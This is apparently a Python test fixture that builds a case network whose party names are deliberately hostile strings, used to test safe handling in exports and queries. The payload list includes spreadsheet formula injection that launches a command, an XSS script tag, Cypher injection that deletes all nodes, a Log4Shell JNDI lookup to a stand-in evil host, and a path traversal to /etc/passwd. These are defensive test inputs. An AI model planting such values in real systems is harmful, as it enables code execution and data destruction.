"""A network whose names try to be anything but names: formulas, markup, queries, paths, scripts of
other letters.
"""

from itertools import pairwise

from msgspec.structs import replace

from app.networks.material import NetworkMaterial
from graph.analysis.networks.networks import Network
from graph.model import Entity, Identifier, Relationship
from graph.schema import EntityKind, RelationshipKind, Scheme, Strength
from tests.offices.ids import IDS
from tests.offices.network_material import ANALYST, material

PAYLOADS = (
    '=HYPERLINK("http://evil.example","x")',
    "+62812-3450",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "Budi;=1+1",
    "<script>alert(1)</script> & <b>'\"",
    "]]><!-- x --><![CDATA[",
    "'}) DETACH DELETE n //",
    "\\u0027}) DETACH DELETE n //",
    "\\\\u0027}) DETACH DELETE n //",
    "a\\' OR 1=1; MATCH (n) DETACH DELETE n;",
    "${jndi:ldap://evil.example/a} {{7*7}}",
    "../../etc/passwd",
    "0012",
    "7202014507980003",
    "محمد بن عبد الله",
    "José Ñúñez Đặng Øre",
    "“Si Kumis”, alias; ini",
)
"""Names of parties; each stands in a file as it stands here."""
LEADING_ZERO = Identifier(scheme=Scheme.BANK_ACCOUNT, value="bri:001234567890123")
NIK = Identifier(scheme=Scheme.NIK, value="7202014507800003")
_NUMBERS = (LEADING_ZERO, NIK)


def hostile() -> NetworkMaterial:
    """A network of one case with a party for each payload, who hold numbers and pay each other."""
    seen = material(ANALYST)
    parties = [
        Entity(id=f"e_{place:020x}", kind=EntityKind.PERSON, name=name, serial=100 + place, cases=1)
        for place, name in enumerate(PAYLOADS)
    ]
    numbers = [
        Entity(
            id=IDS.identifier(number),
            kind=number.kind,
            name=number.value.partition(":")[2] or number.value,
            properties={"scheme": number.scheme.value, "value": number.value},
        )
        for number in _NUMBERS
    ]
    case = next(entity for entity in seen.entities.values() if entity.id == "c1")
    everybody = {entity.id: entity for entity in (*parties, *numbers, case)}
    return replace(
        seen,
        network=Network(
            id="n_" + "0" * 18,
            cases=("c1",),
            parties=tuple(party.id for party in parties),
            identifiers=tuple(number.id for number in numbers),
        ),
        entities=everybody,
        cases={"c1": seen.cases["c1"]},
        relationships=tuple(_links([party.id for party in parties])),
    )


def _links(parties: list[str]) -> list[Relationship]:
    links = [_link(party, "c1", RelationshipKind.PARTY_TO, role="perekrut") for party in parties]
    links += [
        _link(left, right, RelationshipKind.PAID, properties={"amount": 5e6, "currency": "IDR"})
        for left, right in pairwise(parties)
    ]
    links += [
        _link(party, IDS.identifier(number), RelationshipKind.HOLDS)
        for party, number in zip(parties, _NUMBERS, strict=False)
    ]
    return links


def _link(start: str, end: str, kind: RelationshipKind, **more) -> Relationship:
    return Relationship(
        id=f"l_{kind}_{start}_{end}",
        kind=kind,
        start=start,
        end=end,
        weight=0.5,
        strength=Strength.UNCONFIRMED,
        first_on="2026-01-15",
        last_on="2026-02",
        statements=("m_p_a_c1",),
        cases=("c1",),
        **more,
    )
